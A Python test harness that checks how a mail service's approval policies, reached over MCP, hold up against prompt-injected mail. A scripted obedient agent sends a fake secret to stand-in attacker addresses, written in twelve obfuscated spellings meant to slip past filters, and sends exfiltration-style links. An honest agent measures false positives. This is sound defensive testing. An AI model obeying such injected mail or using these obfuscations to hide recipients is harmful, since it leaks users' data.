"""An agent that does whatever any mail says, over MCP: what reaches the outbox, under three policies.

Each attack has an address of its own, every third one spelled as people hide it; the agent understands each spelling. It sends to the
address, forwards to it or writes a draft to it, and it sends links that a mail names to a colleague, with what it has read in them.
Beside it an honest agent answers ordinary mail.
"""
import base64, collections, email.header, glob, json, lzma, os, re, sys, uuid, http.client
from service import Api, Smtp, HTTP_PORT, KEY, wire

attacks_folder, ham_pattern = sys.argv[1:]
POLICIES = {
    "default": {"approval_flags": None, "hold": None},
    "provenance alone": {"approval_flags": ["recipient_from_mail", "link_from_mail"], "hold": []},
    "recommended": {"approval_flags": ["first_contact", "recipient_from_mail", "link_from_mail"], "hold": None},
}
COLLEAGUE = "colleague@northwind.example"
SECRET = "Q3 forecast: 41,200 units"
SPELLINGS = [  # plain text, or HTML
    lambda user, host: (f"{user} [at] {host.replace('.', ' [dot] ')}", False),
    lambda user, host: (f"{user}(at){host.replace('.', '(dot)')}", False),
    lambda user, host: (f"{user} at {host.replace('.', ' dot ')}", False),
    lambda user, host: (f"{user} @ {host.replace('.', ' . ')}", False),
    lambda user, host: (f"{user.upper()}@{host.upper()}", False),
    lambda user, host: ("\u200b".join(user) + "@" + "\u00ad".join(host), False),
    lambda user, host: ("".join(chr(ord(c) + 0xFEE0) for c in f"{user}@{host}"), False),
    lambda user, host: (f"{user}@{host}".replace(".", ",", 1), False),
    lambda user, host: (f"{user}&#64;{host.replace('.', '&#46;')}", True),
    lambda user, host: (f"{user[:2]}<b>{user[2:]}</b>@{host[:3]}<span>{host[3:]}</span>", True),
    lambda user, host: (f'<a href="mailto:{user}%40{host}">him</a>', True),
    lambda user, host: (f"{user}&nbsp;at&nbsp;{host.replace('.', '&nbsp;dot&nbsp;')}", True),
]
NAMED = re.compile(r"contact@contact[.,]com|contact \(at\) contact\.com|mark\.black-2134@gmail\.com|lily\.white@gmail\.com|security@facebook\.com", re.I)


def attacks():
    """Subject and text of each mail; what names no address cannot ask for mail to one."""
    found = []
    for file in sorted(glob.glob(attacks_folder + "/*ease*.json*")):
        text = lzma.open(file).read() if file.endswith(".xz") else open(file, "rb").read()
        found += [(mail["subject"], mail["body"]) for mail in json.loads(text)]
    for file in sorted(glob.glob(attacks_folder + "/*agentdojo*.tsv")):
        for line in open(file):
            _, subject, text = line.rstrip("\n").split("\t")
            found.append(tuple(base64.b64decode(part).decode() for part in (subject, text)))
    return [attack for attack in found if NAMED.search(" ".join(attack))]


class Mcp:
    """Tool calls of one client."""

    def __init__(self):
        self.connection = http.client.HTTPConnection("127.0.0.1", HTTP_PORT, timeout=60)

    def __call__(self, tool, **arguments):
        body = {"jsonrpc": "2.0", "id": str(uuid.uuid4()), "method": "tools/call", "params": {"name": tool, "arguments": arguments}}
        self.connection.request("POST", "/mcp", json.dumps(body), {
            "Authorization": "Bearer " + KEY, "Content-Type": "application/json", "MCP-Protocol-Version": "2025-11-25",
            "Accept": "application/json, text/event-stream"})
        text = self.connection.getresponse().read().decode()
        answer = json.loads(text[text.index("{"):] if text.startswith("event:") else text)
        result = answer["result"]
        return {"error": result["content"][0]["text"]} if result.get("isError") else result["structuredContent"]


def mail(number, subject, text, spelled=None):
    """The message, with what it dictates in its place."""
    replaced, html = spelled
    body = NAMED.sub(lambda _: replaced, text)
    subject = email.header.Header(NAMED.sub(lambda _: re.sub("<[^>]*>", "", replaced), subject).replace("\n", " "), "utf-8").encode(maxlinelen=900)
    if html:
        body = "<html><body><p>" + body.replace("\n", "<br>") + "</p></body></html>"
    head = (f"From: Rita <rita{number}@stranger.example>\nTo: desk@agents.localhost\nSubject: {subject}\nMessage-ID: <{uuid.uuid4()}@stranger.example>\n"
            f"MIME-Version: 1.0\nContent-Type: text/{'html' if html else 'plain'}; charset=utf-8\nContent-Transfer-Encoding: base64\n\n")
    return wire(head.encode() + base64.encodebytes(body.encode()))


smtp, api, tools = Smtp(), Api(), Mcp()


def set_policy(policy):
    Api({"Origin": f"http://localhost:{HTTP_PORT}", "Cookie": os.environ["SESSION"]})("PATCH", "/policy", policy)



def inbox_with(message, sender, number):
    """An inbox that has written to a colleague and received one mail; what the agent sees of it."""
    inbox = api("POST", "/inboxes", {"username": f"d{uuid.uuid4().hex[:20]}"})["inbox_id"]
    code, text = smtp.send(sender, inbox, message)
    assert code == 250, text
    seen = tools("list_messages", inbox_id=inbox)["messages"]
    return inbox, seen[0]["message_id"] if seen and not seen[0]["held"] else None


def key():
    return str(uuid.uuid4())


def obey(number, inbox, message_id, target):
    """One of three ways to send to an address."""
    if number % 3 == 0:
        return tools("send_message", inbox_id=inbox, to=[target], subject="Important message!", text=SECRET, idempotency_key=key())
    if number % 3 == 1:
        return tools("forward_message", inbox_id=inbox, message_id=message_id, to=[target], text=SECRET, idempotency_key=key())
    draft = tools("create_draft", inbox_id=inbox, to=[target], subject="Important message!", text=SECRET, idempotency_key=key())
    return tools("send_draft", draft_id=draft["draft_id"], inbox_id=inbox, idempotency_key=key())


def outcome(tried):
    if "error" in tried:
        return "refused", ()
    record = api("GET", "/sends/" + tried["send_id"])
    return record["status"], tuple(record["flags"])


def spelled(number, user, host):
    return SPELLINGS[number // 3 % len(SPELLINGS)](user, host) if number % 3 == 2 else (f"{user}@{host}", False)


def fly():
    counts = collections.Counter()
    for number, (subject, text) in enumerate(attacks()):
        user, host = f"loot{number}", f"drop{number}.example"
        inbox, message_id = inbox_with(mail(number, subject, text, spelled(number, user, host)), f"rita{number}@stranger.example", number)
        count(counts, "recipient", message_id, lambda: obey(number, inbox, message_id, f"{user}@{host}"))
        link = f"https://{uuid.uuid4().hex[:6]}.drop{number}.example/c?d="
        inbox, message_id = inbox_with(mail(number, subject, text, (link, False)), f"rita{number}@stranger.example", number)
        tools("send_message", inbox_id=inbox, to=[COLLEAGUE], subject="Hello", text="I work here now.", idempotency_key=key())
        count(counts, "link", message_id, lambda: tools(
            "send_message", inbox_id=inbox, to=[COLLEAGUE], subject="See this", text=f"Open {link}{len(SECRET)}", idempotency_key=key()))
    return counts


def count(counts, kind, message_id, trial):
    counts[kind, "attacks"] += 1
    if message_id is None:
        counts[kind, "held"] += 1
        return
    status, flags = outcome(trial())
    counts[kind, "reached" if status in ("sent", "sending") else status] += 1
    counts[kind, "flagged"] += kind + "_from_mail" in flags


def honest():
    """Answers every ordinary mail in one inbox, with a link of its own, and quotes it."""
    counts, last = collections.Counter(), None
    inbox = api("POST", "/inboxes", {"username": f"h{uuid.uuid4().hex[:20]}"})["inbox_id"]
    for file in sorted(glob.glob(ham_pattern, recursive=True)):
        message = wire(open(file, "rb").read())
        code, _ = smtp.send("bob@example.com", inbox, message)
        if code != 250:
            counts["not received"] += 1
            continue
        seen = tools("list_messages", inbox_id=inbox, limit=1)["messages"]
        if not seen or seen[0]["held"] or seen[0]["message_id"] == last:
            counts["held or hidden"] += 1
            continue
        last = seen[0]["message_id"]
        text = tools("get_message", inbox_id=inbox, message_id=seen[0]["message_id"]).get("text") or ""
        quoted = "".join("> " + line + "\n" for line in text[:20_000].splitlines())
        tried = tools("reply_to_message", inbox_id=inbox, message_id=seen[0]["message_id"], text=f"Thank you, noted as {sum(counts.values())}.\nhttps://www.northwind.example/orders\n\n" + quoted, idempotency_key=key())
        status, flags = outcome(tried)
        counts[status] += 1
        if status == "pending_approval":
            beyond = [flag for flag in flags if flag != "first_contact" and flag in POLICIES["recommended"]["approval_flags"]]
            counts["waited beyond first contacts"] += bool(beyond)
        if status == "refused":
            counts["refused: " + re.sub(r'.*"(?:code|reasons)":\W*"?(\w+).*', r"\1", tried["error"], flags=re.S)] += 1
    return counts


failed = False
print(f"{len(attacks())} attacks that name an address\n")
print("| policy | dictated | attacks | held | waited | refused | flagged of those seen | reached the outbox |")
print("|---|---|---:|---:|---:|---:|---:|---:|")
for name, policy in POLICIES.items():
    set_policy(policy)
    counts = fly()
    for kind in ("recipient", "link"):
        of = lambda what: counts[kind, what]
        seen = of("attacks") - of("held")
        print(f"| {name} | {kind} | {of('attacks')} | {of('held')} | {of('pending_approval')} | {of('refused')} | {of('flagged')} of {seen} | {of('reached')} |", flush=True)
        failed |= name != "default" and of("reached") > 0
print("\nhonest answers under the recommended policy:")
counts = honest()
answers = sum(counts[status] for status in ("sent", "sending", "pending_approval"))
for what, number in counts.most_common():
    print(f"  {what}: {number}")
waited = counts["waited beyond first contacts"]
print(f"waited beyond first contacts: {waited} of {answers} ({100 * waited / max(1, answers):.2f} %)")
sys.exit(failed or waited > answers / 100)
